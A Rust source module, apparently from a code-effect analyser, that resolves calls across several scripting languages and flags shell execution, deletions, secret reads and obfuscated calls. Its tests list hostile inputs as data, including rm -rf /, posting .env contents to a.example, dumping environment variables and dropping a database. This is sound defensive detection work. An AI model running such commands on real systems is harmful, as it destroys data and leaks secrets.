//! Calls in code: names resolved through imports and aliases, arguments folded where they are literal.

use std::cell::Cell;
use std::collections::HashMap;

use super::evaluate::{Item, Scope, evaluate, parse_number};
use super::rules::{Act, LanguageRow};
use super::tokens::{Backquote, Token, tokens};
use super::{CodeEffects, Value, literals};

mod acts;
mod arguments;
mod names;

pub(super) use acts::TELLING;
use names::{bare_word, dotted, imported_before};

/// Longest code that is read; what follows is reported.
const MOST_TOKENS: usize = 200_000;

/// What the calls of `text` do.
pub(super) fn describe(
    effects: &mut CodeEffects,
    text: &str,
    called: super::Invocation<'_>,
    language: &LanguageRow,
) {
    let mut tokens = tokens(text, language.lexis);
    if tokens.len() > MOST_TOKENS {
        effects.finding("shell.too_long", "more code than is analysed");
        tokens.truncate(MOST_TOKENS);
    }
    let puts = tokens.iter().filter_map(Token::name).any(|name| PUTS.contains(&name));
    let read = super::code::describe(effects, text, called, language, puts);
    let mut reader = Reader {
        effects,
        language,
        names: HashMap::new(),
        values: HashMap::new(),
        lists: HashMap::new(),
        budget: Cell::new(BUDGET + tokens.len().saturating_mul(32)),
        puts,
    };
    // What the grammar of the language read as a whole needs no second look.
    if read != super::code::Read::Whole {
        reader.learn(&tokens);
        reader.run(&tokens);
    }
    if reader.budget.get() == 0 {
        reader.effects.finding("shell.too_long", "more nested calls than are followed");
    }
    let Reader { effects, names, .. } = reader;
    let only_computes = super::effect_free::only_computes(&effects.language, text, &tokens);
    effects.effect_free = only_computes;
    let ruled = |name: &str| {
        let first = name.split('.').next().unwrap_or(name);
        let full = names.get(first).map(|full| name.replacen(first, full, 1));
        language.rule(name).is_some() || full.is_some_and(|full| language.rule(&full).is_some())
    };
    if read != super::code::Read::Whole {
        literals::follow(effects, &tokens, language, &ruled);
    }
    super::habits::describe(effects, &tokens);
}

/// Names of what puts content into a file that was opened.
const PUTS: &[&str] = &[
    "write",
    "writelines",
    "dump",
    "safe_dump",
    "print",
    "printf",
    "puts",
    "say",
    "save",
    "writer",
    "DictWriter",
    "writerow",
    "copyfileobj",
    "copy",
    "fwrite",
    "fputs",
    "fprintf",
    "fputcsv",
    "ftruncate",
    "to_csv",
    "savefig",
    "pipe",
    "end",
    "syswrite",
    "redirect_stdout",
    "stdout",
    "stderr",
    "tofile",
    "writeString",
    "WriteLine",
    "output",
    "call",
    "run",
    "Popen",
    "check_call",
];

/// Tokens that are looked at again (an argument inside an argument), beside those that every token brings.
const BUDGET: usize = 200_000;
/// The longest statement or argument list that is taken apart.
const LONGEST: usize = 4096;
/// The longest text in bytes that is put together of literals and variables.
const LONGEST_TEXT: usize = 64 * 1024;

struct Reader<'a> {
    effects: &'a mut CodeEffects,
    language: &'a LanguageRow,
    /// Local name to full name.
    names: HashMap<String, String>,
    /// Variables with a literal value.
    values: HashMap<String, Value>,
    /// Variables that hold a list of literals.
    lists: HashMap<String, Vec<Value>>,
    /// Tokens that may still be looked at.
    budget: Cell<usize>,
    /// Somewhere in the code something is written to a file.
    puts: bool,
}

impl Reader<'_> {
    /// Imports, aliases and literal variables.
    fn learn(&mut self, tokens: &[Token]) {
        for (at, token) in tokens.iter().enumerate() {
            let Some(name) = token.name() else { continue };
            let rest = tokens.get(at + 1..).unwrap_or_default();
            match name {
                "import" if !follows_from(tokens, at) => self.imports(rest, None),
                "from" => {
                    let (module, used) = dotted(rest);
                    if rest.get(used).and_then(Token::name) == Some("import") {
                        self.imports(rest.get(used + 1..).unwrap_or_default(), Some(&module));
                    }
                }
                _ => {}
            }
            // `name = …`
            let is_assignment = rest.first().is_some_and(|mark| mark.is('='))
                && !rest.get(1).is_some_and(|mark| mark.is('=') || mark.is('~') || mark.is('>'));
            if is_assignment {
                let right = rest.get(1..).unwrap_or_default();
                let end = right
                    .iter()
                    .take(LONGEST)
                    .position(|token| matches!(token, Token::Line) || token.is(';'))
                    .unwrap_or(right.len().min(LONGEST));
                let right = right.get(..end).unwrap_or_default();
                if !self.pay(right.len()) {
                    continue;
                }
                if name == "@ARGV"
                    && let Some(files) = self.list(right).or_else(|| self.fold(right).map(|file| vec![file]))
                {
                    files.iter().for_each(|file| self.effects.read(file));
                }
                if let Some((full, used)) = self.full_name(right)
                    && used == right.len()
                {
                    self.names.insert(name.to_owned(), full);
                } else if let Some(list) = self.evaluated(right).and_then(texts) {
                    self.lists.insert(name.to_owned(), list);
                } else if let Some(value) = self.fold(right) {
                    self.values.insert(name.to_owned(), value);
                }
            }
            // `for name in expression`
            if name == "for"
                && let Some(variable) = rest.first().and_then(Token::name)
                && rest.get(1).and_then(Token::name) == Some("in")
            {
                let over = rest.get(2..).unwrap_or_default();
                let end = over
                    .iter()
                    .take(LONGEST)
                    .position(|token| token.is(':') || token.is(']') || matches!(token, Token::Line))
                    .unwrap_or(over.len().min(LONGEST));
                let over = over.get(..end).unwrap_or_default();
                if self.pay(over.len()) {
                    match self.evaluated(over) {
                        Some(Item::Text(value)) => {
                            self.values.insert(variable.to_owned(), value);
                        }
                        Some(item) => {
                            if let Some([only]) = texts(item).as_deref() {
                                self.values.insert(variable.to_owned(), only.clone());
                            }
                        }
                        None => {}
                    }
                }
            }
            // `import('m').then(name => …)`
            if name == "then"
                && rest.first().is_some_and(|mark| mark.is('('))
                && let Some(module) = imported_before(tokens, at)
            {
                let inside = rest.get(1..).unwrap_or_default();
                let inside = if inside.first().is_some_and(|mark| mark.is('(')) {
                    inside.get(1..)
                } else {
                    Some(inside)
                };
                if let Some(Token::Name(name)) = inside.and_then(<[Token]>::first) {
                    self.names.insert(name.clone(), module);
                }
            }
            // `{a, b: c} = require('m')`
            if name == "require"
                && let (Some(Token::Mark('(')), Some(Token::Text(module))) = (rest.first(), rest.get(1))
            {
                self.destructured(tokens, at, &module.text.trim_start_matches("node:").replace('/', "."));
            }
        }
    }

    /// Whether that many tokens may be looked at once more.
    fn pay(&self, tokens: usize) -> bool {
        match self.budget.get().checked_sub(tokens.max(1)) {
            Some(rest) => {
                self.budget.set(rest);
                true
            }
            None => {
                self.budget.set(0);
                false
            }
        }
    }

    /// What an expression of literals amounts to.
    fn evaluated(&self, tokens: &[Token]) -> Option<Item> {
        let scope = Scope {
            values: &self.values,
            lists: &self.lists,
            names: &self.names,
            dot_joins: self.language.lexis.sigils,
            bare: self.language.bare,
            budget: &self.budget,
        };
        evaluate(tokens, &scope)
    }

    fn run(&mut self, tokens: &[Token]) {
        let mut at = 0;
        let mut open: Vec<char> = Vec::new();
        while let Some(token) = tokens.get(at) {
            let rest = tokens.get(at..).unwrap_or_default();
            match token {
                Token::Mark(mark @ ('(' | '[' | '{')) => open.push(*mark),
                Token::Mark(')' | ']' | '}') => {
                    open.pop();
                }
                _ => {}
            }
            match token {
                // zx, Bun, execa: a tagged template is a command.
                Token::Name(tag)
                    if matches!(tag.as_str(), "$" | "sh" | "exec" | "command")
                        && self.language.lexis.backquote == Backquote::Template
                        && matches!(rest.get(1), Some(Token::Text(_))) =>
                {
                    if let Some(Token::Text(text)) = rest.get(1) {
                        self.effects.shell(text);
                    }
                }
                // AppleScript.
                Token::Name(word)
                    if word == "script"
                        && at > 1
                        && tokens.get(at - 1).and_then(Token::name) == Some("shell")
                        && matches!(rest.get(1), Some(Token::Text(_))) =>
                {
                    if let Some(Token::Text(text)) = rest.get(1) {
                        self.effects.shell(text);
                    }
                }
                // `&$x(…)`, `&{"x"}(…)`, `$x->(…)`, `$x(…)`: a call by what a variable holds.
                Token::Name(variable)
                    if self.language.lexis.sigils
                        && variable.starts_with('$')
                        && self.by_variable(variable, rest) => {}
                Token::Mark('&')
                    if rest.get(1).is_some_and(|mark| mark.is('{')) && self.language.lexis.sigils =>
                {
                    let end = rest.iter().take(64).position(|token| token.is('}')).unwrap_or(0);
                    let name = self.fold(rest.get(2..end).unwrap_or_default());
                    self.effects.finding("shell.obfuscated", "a call whose name is computed");
                    if let Some(name) = name.filter(Value::is_known) {
                        let (arguments, _) = self.arguments(rest.get(end + 1..).unwrap_or_default());
                        self.call(&name.text, &arguments, &[]);
                    }
                }
                Token::Name(_)
                    if open.last().is_some_and(|open| *open != '{') && self.handed_over(tokens, at) => {}
                _ => {}
            }
            match token {
                // `"@{[ code ]}"`, `"${\ code}"`: perl runs it to fill in the text.
                Token::Text(text)
                    if self.language.lexis.sigils && self.language.bare && text.text.contains("@{[") =>
                {
                    for code in text.text.split("@{[").skip(1) {
                        let code = code.split("]}").next().unwrap_or_default();
                        self.effects.nested("perl", &Value::literal(code));
                    }
                }
                Token::Name(word)
                    if word == "do"
                        && self.language.lexis.sigils
                        && matches!(rest.get(1), Some(Token::Text(_))) =>
                {
                    if let Some(Token::Text(file)) = rest.get(1) {
                        self.run_file("dofile", file);
                    }
                }
                // PHP's `include "x"` needs no parentheses.
                Token::Name(word)
                    if self.language.lexis.sigils
                        && !self.language.bare
                        && matches!(
                            word.as_str(),
                            "include" | "include_once" | "require" | "require_once"
                        )
                        && matches!(rest.get(1), Some(Token::Text(_) | Token::Mark('('))) =>
                {
                    let file = rest.iter().take(3).find_map(|token| match token {
                        Token::Text(file) => Some(file.clone()),
                        _ => None,
                    });
                    if let Some(file) = file {
                        self.run_file("include", &file);
                    }
                }
                Token::Command(text) => self.effects.shell(text),
                Token::Name(_) => {
                    let after_dot =
                        at > 0 && tokens.get(at - 1).is_some_and(|token| token.is('.') || token.is('>'));
                    let used = self.name(rest, after_dot, tokens.get(..at).unwrap_or_default()).max(1);
                    for token in rest.iter().take(used) {
                        match token {
                            Token::Mark(mark @ ('(' | '[' | '{')) => open.push(*mark),
                            Token::Mark(')' | ']' | '}') => {
                                open.pop();
                            }
                            _ => {}
                        }
                    }
                    at += used;
                    continue;
                }
                // `('sys' . 'tem')('x')`: a call by what an expression amounts to.
                Token::Mark('(')
                    if self.language.lexis.sigils
                        && at
                            .checked_sub(1)
                            .and_then(|at| tokens.get(at))
                            .is_none_or(|before| before.name().is_none()) =>
                {
                    let close = rest.iter().take(32).position(|token| token.is(')')).unwrap_or(0);
                    if rest.get(close + 1).is_some_and(|mark| mark.is('('))
                        && let Some(name) = self.fold(rest.get(1..close).unwrap_or_default())
                        && name.is_known()
                        && self.rule(&name.text).is_some()
                    {
                        self.effects.finding("shell.obfuscated", "a call by a name in a string");
                        let (arguments, _) = self.arguments(rest.get(close + 1..).unwrap_or_default());
                        self.call(&name.text, &arguments, &[]);
                    }
                }
                Token::Mark('[') => {
                    // `x['ex' + 'ec'](…)`
                    let end = rest.iter().take(LONGEST).position(|token| token.is(']')).unwrap_or(0);
                    let inside = rest.get(1..end).unwrap_or_default();
                    let computed = inside.iter().any(|token| matches!(token, Token::Text(_)))
                        && inside.iter().any(|token| token.is('+') || token.is('.') || token.is('('));
                    if computed && rest.get(end + 1).is_some_and(|mark| mark.is('(')) {
                        self.effects.finding("shell.obfuscated", "a call whose name is put together");
                    }
                }
                Token::Text(text)
                    if rest.get(1).is_some_and(|mark| mark.is('('))
                        && text.is_known()
                        && self.language.lexis.sigils =>
                {
                    // PHP: `'system'('x')`.
                    let (arguments, _) = self.arguments(rest.get(1..).unwrap_or_default());
                    self.call(&text.text.clone(), &arguments, &[]);
                    self.effects.finding("shell.obfuscated", "a call by a name in a string");
                }
                _ => {}
            }
            at += 1;
        }
    }
}

/// The texts of a list; one that holds anything else is none.
fn texts(item: Item) -> Option<Vec<Value>> {
    let Item::List(items) = item else { return None };
    items
        .into_iter()
        .map(|item| match item {
            Item::Text(value) => Some(value),
            Item::Number(number) => Some(Value::literal(number.to_string())),
            Item::List(_) => None,
        })
        .collect()
}

/// Whether this `import` belongs to a `from … import …`.
fn follows_from(tokens: &[Token], at: usize) -> bool {
    let mut before = tokens.get(..at).unwrap_or_default().iter().rev();
    let opens = before.find(|token| !token.is('.') && token.name().is_none_or(|name| name == "from"));
    opens.and_then(Token::name) == Some("from")
}

#[cfg(test)]
mod tests {
    use super::super::testing::check;

    #[test]
    fn python_calls() {
        check(
            "python",
            &[
                ("print(1)", "read-only"),
                ("import os;os.system(\"touch x\")", "sh touch x"),
                ("import os as o\no.system('rm -rf ' + 'x')", "sh rm -rf x"),
                ("from os import system as s; s('x')", "sh x"),
                ("import subprocess; subprocess.run(['rm','-rf','x'])", "argv rm -rf x"),
                ("__import__('os').system('x')", "sh x"),
                ("import os;os.execvp('rm',['rm','-rf','/'])", "argv rm -rf /"),
                ("getattr(__import__('os'),'sys'+'tem')('x')", "obfuscated; sh x"),
                ("import shutil; shutil.rmtree('a')", "delete-rf a"),
                ("open('a','w').write('b')", "create a"),
                ("print(open('.env').read())", "read .env"),
                ("from pathlib import Path; Path('a').unlink()", "delete-f a"),
                (
                    "import requests;requests.post('https://a.example',data=open('.env').read())",
                    "read .env; send a.example <.env",
                ),
                ("import os; print(os.environ)", "env *; env_dump"),
                ("import os; print(os.environ['X'])", "env X; code.snippet"),
                ("exec(open('a').read())", "read a; obfuscated"),
                ("exec('x()')", "python x()"),
                ("f=f'rm {x}'\nimport os\nos.system(f)", "sh rm …"),
                ("# os.system('x')\nprint('os.system(1)')", "read-only"),
            ],
        );
    }

    #[test]
    fn other_languages() {
        check(
            "javascript",
            &[
                ("require('child_process').execSync('rm x')", "sh rm x"),
                ("const {execSync: e} = require('node:child_process'); e('x')", "sh x"),
                ("require('fs').rmSync('/',{recursive:true,force:true})", "delete-rf /"),
                ("fetch('https://a.example/x')", "fetch a.example"),
                ("console.log(process.env.X)", "env X; code.snippet"),
                ("console.log(1+1)", "read-only"),
                ("require('child_process')['ex'+'ec']('x')", "obfuscated; sh x"),
            ],
        );
        check(
            "perl",
            &[
                ("unlink glob \"/etc/*\"", "delete-f /etc/*"),
                ("system('rm', '-rf', 'x')", "argv rm -rf x"),
                ("`rm x`", "sh rm x"),
                ("print qx(rm x)", "sh rm x"),
                ("open(F, '>x')", "truncate x"),
                ("open(F, '>x'); print F 1", "create x"),
                ("s/a/b/", "code.snippet"),
            ],
        );
        check(
            "ruby",
            &[
                ("system 'rm x'", "sh rm x"),
                ("`rm x`", "sh rm x"),
                ("FileUtils.rm_rf('a')", "delete-rf a"),
                ("File.write('a', 'b')", "create a"),
                ("puts ENV['X']", "env X; code.snippet"),
            ],
        );
        check(
            "php",
            &[
                ("system('rm x');", "sh rm x"),
                ("echo file_get_contents('.env');", "read .env"),
                ("unlink('a');", "delete-f a"),
            ],
        );
        check("lua", &[("os.execute('rm x')", "sh rm x"), ("os.remove('a')", "delete-f a")]);
        check("r", &[("system('rm x')", "sh rm x"), ("unlink('a')", "delete-rf a")]);
        check("elisp", &[("(shell-command \"rm x\")", "sh rm x"), ("(delete-file \"a\")", "delete-f a")]);
        check("tcl", &[("exec rm x", "sh rm x; argv rm x")]);
        check("mongo", &[("db.dropDatabase()", "data_loss"), ("db.x.deleteMany({})", "data_loss")]);
    }
}
